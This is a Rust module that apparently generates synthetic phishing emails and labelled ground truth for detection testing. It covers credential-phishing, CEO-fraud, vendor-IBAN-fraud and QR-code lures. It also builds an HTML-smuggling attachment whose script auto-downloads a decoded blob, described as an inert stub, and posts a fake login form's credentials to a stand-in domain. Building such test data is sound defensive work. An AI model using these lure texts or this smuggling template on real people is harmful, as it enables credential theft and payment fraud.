//! Mail-borne attacks: credential phishing, CEO fraud, vendor fraud, QR phishing, HTML smuggling.

use base64::Engine as _;
use chrono::Duration;
use sha2::{Digest, Sha256};

use super::{Ctx, art, lookalike, mail, qr_png};
use crate::ScenarioTruth;
use crate::company::{Role, random_iban};
use crate::docs::pdf;
use crate::geo::{InfraKind, foreign};
use crate::mail::{InvoiceRef, addr_of, html_of, invoice_lines};
use crate::mime::{Addr, Attachment, Dmarc, Spf, Verdict};
use crate::transport::{gmail_msgid, unauthenticated_lookalike, via_google};

/// Credential phishing campaign from a lookalike login domain.
pub(super) fn cred_phish(cx: &mut Ctx, pool: &[usize], cred_n: usize) -> ScenarioTruth {
    let c = cx.c;
    let id = "cred-phish-1";
    let recipients: Vec<usize> = pool.iter().copied().take(cred_n).collect();
    let domain = cx
        .rng
        .pick(&[
            "micros0ft-secure-login.com",
            "rnicrosoft-account-verify.com",
            "microsoft-0365-support.com",
            "office365-passwordreset.com",
            "login-microsoftonline-sso.com",
        ])
        .to_string();
    let infra = foreign(InfraKind::Hosting, c.country.code);
    let place = infra[cx.rng.below(infra.len())];
    let s = unauthenticated_lookalike(&mut cx.rng, &place.block, &domain, place.country);
    let token = cx.rng.alnum(32);
    let url = format!(
        "https://login.{domain}/common/oauth2/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&sso_reload=true&t={token}"
    );
    let off = cx.at(2_000);
    let text = format!(
        "Microsoft 365\n\nYour password for {} expires today.\n\nTo keep using your current password, confirm your account within 24 hours. After that you will be signed out of Outlook, Teams and OneDrive.\n\nKeep current password: {url}\n\nMicrosoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n",
        c.domain
    );
    let html = format!(
        "<html><body style=\"font-family:Segoe UI,Arial\"><img src=\"https://login.{domain}/assets/ms-logo.png\" alt=\"Microsoft\" width=\"108\"><h2>Your password expires today</h2><p>Your password for <b>{}</b> expires today.</p><p>To keep using your current password, confirm your account within 24 hours. After that you will be signed out of Outlook, Teams and OneDrive.</p><p><a href=\"{url}\" style=\"background:#0067b8;color:#ffffff;padding:10px 20px;text-decoration:none\">Keep current password</a></p><p style=\"font-size:11px;color:#666\">Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></body></html>\n",
        c.domain
    );
    let msgid = format!("<{}@{domain}>", cx.rng.guid());
    let from = Addr::new("Microsoft 365 Security", format!("no-reply@{domain}"));
    let mut m = mail(
        from.clone(),
        vec![Addr::new("undisclosed-recipients:;", "")],
        "Action required: your password expires today".into(),
        cx.when(off),
        msgid.clone(),
        text,
        Some(html),
        cx.rng.guid(),
    );
    m.importance_high = true;
    let half = recipients.len().div_ceil(2);
    cx.deliver(off, id, &m, &s, &recipients[..half]);
    if half < recipients.len() {
        let off2 = cx.at(2_600);
        cx.deliver(off2, id, &m, &s, &recipients[half..]);
    }
    ScenarioTruth {
        id: id.into(),
        kind: "credential_phishing".into(),
        description: format!(
            "Password-expiry lure from lookalike {domain} (Microsoft-branded display name, no DKIM/DMARC, compauth fail) to {} users, linking to a credential page on the lookalike domain.",
            recipients.len()
        ),
        target_users: cx.ids(&recipients),
        internet_message_ids: vec![msgid],
        start_offset_ms: off,
        artifacts: art(&[
            ("sender_addresses", vec![from.address.clone()]),
            ("sender_domains", vec![domain.clone()]),
            ("sender_ips", vec![s.ip.clone()]),
            ("urls", vec![url]),
        ]),
    }
}

/// CEO fraud from a freemail account with the CEO's display name.
pub(super) fn ceo_fraud(cx: &mut Ctx) -> ScenarioTruth {
    let c = cx.c;
    let id = "ceo-fraud-1";
    let ceo = &c.people[c.ceo];
    let targets = vec![c.cfo, c.finance_head];
    let local = format!(
        "{}.{}.{}",
        ceo.given.to_ascii_lowercase(),
        ceo.surname.to_ascii_lowercase(),
        cx.rng.pick(&["office", "exec", "private", "ceo"])
    );
    let from = Addr::new(
        ceo.display.clone(),
        format!("{local}{}@gmail.com", cx.rng.digits(2)),
    );
    let reply_to = Addr::new(
        ceo.display.clone(),
        format!(
            "{}{}.{}@outlook.com",
            &ceo.given[..1].to_ascii_lowercase(),
            ceo.surname.to_ascii_lowercase(),
            cx.rng.digits(3)
        ),
    );
    let s = via_google(&mut cx.rng, &from.address, "gmail.com");
    let off = cx.at(8_000);
    let cfo = &c.people[c.cfo];
    let text = format!(
        "{},\n\nAre you at your desk? I need you to handle an urgent and confidential wire transfer today for an acquisition we are closing. Please do not discuss this with anyone else in the office until it is announced.\n\nReply to me here with your availability and I will send the beneficiary details. If the wire can't go out today, I need 10 Apple gift cards ($500 each) for a client instead - scratch the back and send me photos of the codes.\n\nThanks,\n{}\n\nSent from my iPhone\n",
        cfo.given, ceo.given
    );
    let msgid = gmail_msgid(&mut cx.rng);
    let mut m = mail(
        from.clone(),
        targets.iter().map(|&u| addr_of(&c.people[u])).collect(),
        "Urgent - confidential request".into(),
        cx.when(off),
        msgid.clone(),
        text,
        None,
        cx.rng.guid(),
    );
    m.reply_to = Some(reply_to.clone());
    m.importance_high = true;
    cx.deliver(off, id, &m, &s, &targets);
    ScenarioTruth {
        id: id.into(),
        kind: "ceo_fraud".into(),
        description: format!(
            "Freemail sender using CEO {}'s display name asks the CFO/finance for an urgent confidential wire (or gift cards); Reply-To points to another freemail; no link.",
            ceo.display
        ),
        target_users: cx.ids(&targets),
        internet_message_ids: vec![msgid],
        start_offset_ms: off,
        artifacts: art(&[
            ("sender_addresses", vec![from.address.clone()]),
            ("reply_to", vec![reply_to.address.clone()]),
            ("impersonated_users", vec![ceo.id.clone()]),
            ("sender_ips", vec![s.ip.clone()]),
        ]),
    }
}

/// Vendor fraud: lookalike of a real vendor domain, in the invoice thread, new IBAN.
pub(super) fn vendor_fraud(cx: &mut Ctx, invoices: &[InvoiceRef]) -> ScenarioTruth {
    let c = cx.c;
    let id = "vendor-fraud-1";
    let inv = invoices
        .iter()
        .rev()
        .find(|i| c.people[i.recipient].role == Role::ApClerk)
        .or(invoices.last())
        .cloned();
    let (vi, recipient, subject, number, amount, thread) = match inv {
        Some(i) => (
            i.vendor,
            i.recipient,
            i.subject.clone(),
            i.number.clone(),
            i.amount.clone(),
            Some(i.message_id.clone()),
        ),
        None => {
            let v = &c.vendors[0];
            (
                0,
                c.ap_clerks.first().copied().unwrap_or(c.finance_head),
                format!("Invoice {}10422 from {}", v.invoice_prefix, v.name),
                format!("{}10422", v.invoice_prefix),
                "EUR 8,420.00".to_string(),
                None,
            )
        }
    };
    let v = &c.vendors[vi];
    let fake = lookalike(&mut cx.rng, &v.domain);
    let local = v.contact.split('@').next().unwrap_or("accounts");
    let from = Addr::new(v.contact_name.clone(), format!("{local}@{fake}"));
    let s = via_google(&mut cx.rng, &from.address, &fake);
    let new_iban = random_iban(&mut cx.rng, "LT");
    let off = cx.at(14_000);
    let when = cx.when(off);
    let due = (when + Duration::days(3)).format("%Y-%m-%d").to_string();
    let text = format!(
        "Hi {},\n\nFollowing our bank's merger we have moved our accounts. Please update our remittance details before paying invoice {number} ({amount}) - payments to the old account will be returned.\n\nNew bank details:\nAccount name: {}\nIBAN: {new_iban}\nBIC: REVOLT21\n\nThe updated letter is attached. Kindly confirm once the change is done, and let me know when the payment is scheduled.\n\nKind regards,\n{}\nAccounts Receivable | {}\n",
        c.people[recipient].given, v.name, v.contact_name, v.name
    );
    let letter = pdf(
        "Change of bank details",
        &invoice_lines(&v.name, &number, &amount, &due, &new_iban),
    );
    let msgid = gmail_msgid(&mut cx.rng);
    let mut m = mail(
        from.clone(),
        vec![addr_of(&c.people[recipient])],
        format!("RE: {subject}"),
        when,
        msgid.clone(),
        text.clone(),
        Some(html_of(&text)),
        cx.rng.guid(),
    );
    if let Some(t) = &thread {
        m.in_reply_to = Some(t.clone());
        m.references = vec![t.clone()];
    }
    m.attachments.push(Attachment {
        name: "Updated_bank_details.pdf".into(),
        content_type: "application/pdf".into(),
        data: letter,
        content_id: None,
    });
    cx.deliver(off, id, &m, &s, &[recipient]);
    ScenarioTruth {
        id: id.into(),
        kind: "vendor_fraud".into(),
        description: format!(
            "Lookalike {fake} of partner {} replies in the invoice thread asking AP to change bank details to a new IBAN.",
            v.domain
        ),
        target_users: cx.ids(&[recipient]),
        internet_message_ids: vec![msgid],
        start_offset_ms: off,
        artifacts: art(&[
            ("sender_addresses", vec![from.address.clone()]),
            ("sender_domains", vec![fake.clone()]),
            ("impersonated_domains", vec![v.domain.clone()]),
            ("iban", vec![new_iban]),
            ("sender_ips", vec![s.ip.clone()]),
        ]),
    }
}

/// QR phishing: an image that encodes the phishing URL, very little text.
pub(super) fn qr_phish(cx: &mut Ctx, pool: &[usize]) -> ScenarioTruth {
    let c = cx.c;
    let pk = |k: usize| pool[k % pool.len()];
    let id = "qr-phish-1";
    let targets: Vec<usize> = (3..6)
        .map(pk)
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    let stem = c.domain.split('.').next().unwrap_or("corp");
    let domain = format!("{stem}-mfa-portal.{}", cx.rng.pick(&["com", "net", "io"]));
    let url = format!("https://{domain}/mfa/revalidate?e={}", cx.rng.alnum(20));
    let infra = foreign(InfraKind::Hosting, c.country.code);
    let place = infra[cx.rng.below(infra.len())];
    let mut s = unauthenticated_lookalike(&mut cx.rng, &place.block, &domain, place.country);
    s.verdict = Verdict {
        spf: Spf::SoftFail,
        dkim: None,
        dkim_pass: false,
        dmarc: Dmarc::None,
        dmarc_action: "none",
        compauth: "softfail",
        reason: "001",
        scl: 1,
        bcl: 0,
        cat: "NONE",
    };
    let off = cx.at(20_000);
    let cid = format!("image001.png@01DA{}", cx.rng.hex_upper(12));
    let html = format!(
        "<html><body><p>Your multi-factor authentication expires today.</p><p><img src=\"cid:{cid}\" width=\"240\" height=\"240\" alt=\"\"></p><p>Scan to re-validate your MFA.</p><p>{} IT Service Desk</p></body></html>\n",
        c.name
    );
    let text = format!(
        "Your multi-factor authentication expires today.\n\nScan to re-validate your MFA.\n\n{} IT Service Desk\n",
        c.name
    );
    let msgid = format!("<{}@{domain}>", cx.rng.alnum(24));
    let mut m = mail(
        Addr::new(
            format!("{} IT Service Desk", c.name),
            format!("servicedesk@{domain}"),
        ),
        targets.iter().map(|&u| addr_of(&c.people[u])).collect(),
        "MFA re-validation required".into(),
        cx.when(off),
        msgid.clone(),
        text,
        Some(html),
        cx.rng.guid(),
    );
    let png = qr_png(&url).unwrap_or_default();
    let sha = hex::encode(Sha256::digest(&png));
    m.attachments.push(Attachment {
        name: "image001.png".into(),
        content_type: "image/png".into(),
        data: png,
        content_id: Some(cid),
    });
    cx.deliver(off, id, &m, &s, &targets);
    ScenarioTruth {
        id: id.into(),
        kind: "qr_phishing".into(),
        description: "Inline QR code (PNG) encoding a credential-phishing URL; almost no text (\"scan to re-validate your MFA\").".into(),
        target_users: cx.ids(&targets),
        internet_message_ids: vec![msgid],
        start_offset_ms: off,
        artifacts: art(&[("urls", vec![url]), ("sender_domains", vec![domain.clone()]), ("sender_ips", vec![s.ip.clone()]), ("attachment_sha256", vec![sha])]),
    }
}

/// HTML smuggling: an HTML attachment that assembles a payload and offers a fake login.
pub(super) fn html_smuggling(cx: &mut Ctx, pool: &[usize]) -> ScenarioTruth {
    let c = cx.c;
    let pk = |k: usize| pool[k % pool.len()];
    let id = "html-smuggling-1";
    let targets: Vec<usize> = (6..9)
        .map(pk)
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    let domain = format!(
        "remittance-{}.com",
        cx.rng.pick(&["portal", "notice", "center", "docs"])
    );
    let infra = foreign(InfraKind::Hosting, c.country.code);
    let place = infra[cx.rng.below(infra.len())];
    let mut s = unauthenticated_lookalike(&mut cx.rng, &place.block, &domain, place.country);
    s.verdict = Verdict {
        spf: Spf::Fail,
        dkim: None,
        dkim_pass: false,
        dmarc: Dmarc::Fail,
        dmarc_action: "none",
        compauth: "fail",
        reason: "000",
        scl: 1,
        bcl: 0,
        cat: "NONE",
    };
    let off = cx.at(26_000);
    let ref_no = cx.rng.digits(6);
    let post = format!("https://{domain}/owa/auth.php");
    // The payload is inert: an "MZ" stub, never a working executable.
    let mut payload = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    payload.extend(cx.rng.bytes(512));
    let blob = base64::engine::general_purpose::STANDARD.encode(&payload);
    let attach = format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Remittance Advice</title></head>\n<body style=\"font-family:Segoe UI,Arial\">\n<div id=\"m\"><h3>Loading secure document...</h3></div>\n<form id=\"f\" action=\"{post}\" method=\"POST\" style=\"display:none\">\n<p>Sign in to view the remittance advice</p>\n<input type=\"email\" name=\"login\" placeholder=\"Email\">\n<input type=\"password\" name=\"passwd\" placeholder=\"Password\">\n<button type=\"submit\">Sign in</button>\n</form>\n<script>\nvar p = \"{blob}\";\nvar s = window.atob(p); var b = new Uint8Array(s.length);\nfor (var i = 0; i < s.length; i++) {{ b[i] = s.charCodeAt(i); }}\nvar f = new Blob([b], {{type: 'application/octet-stream'}});\nvar a = document.createElement('a'); a.href = window.URL.createObjectURL(f);\na.download = 'Remittance_{ref_no}.iso'; document.body.appendChild(a); a.click();\ndocument.getElementById('f').style.display = 'block';\n</script>\n</body></html>\n"
    );
    let name = format!("Remittance_Advice_{ref_no}.html");
    let sha = hex::encode(Sha256::digest(attach.as_bytes()));
    let text = format!(
        "Hello,\n\nPlease find the remittance advice for payment {ref_no} attached. Open the document in your browser to view it.\n\nAccounts Department\n"
    );
    let msgid = format!("<{}.{}@{domain}>", cx.rng.digits(10), cx.rng.alnum(12));
    let mut m = mail(
        Addr::new("Accounts Department", format!("payments@{domain}")),
        targets.iter().map(|&u| addr_of(&c.people[u])).collect(),
        format!("Remittance Advice - Payment {ref_no}"),
        cx.when(off),
        msgid.clone(),
        text,
        None,
        cx.rng.guid(),
    );
    m.attachments.push(Attachment {
        name: name.clone(),
        content_type: "text/html".into(),
        data: attach.into_bytes(),
        content_id: None,
    });
    cx.deliver(off, id, &m, &s, &targets);
    ScenarioTruth {
        id: id.into(),
        kind: "html_smuggling".into(),
        description: "HTML attachment whose script decodes a base64 blob into a download (Remittance_*.iso) and shows a fake sign-in form posting credentials off-site.".into(),
        target_users: cx.ids(&targets),
        internet_message_ids: vec![msgid],
        start_offset_ms: off,
        artifacts: art(&[("attachment_names", vec![name]), ("attachment_sha256", vec![sha]), ("sender_domains", vec![domain.clone()]), ("urls", vec![post]), ("sender_ips", vec![s.ip.clone()])]),
    }
}
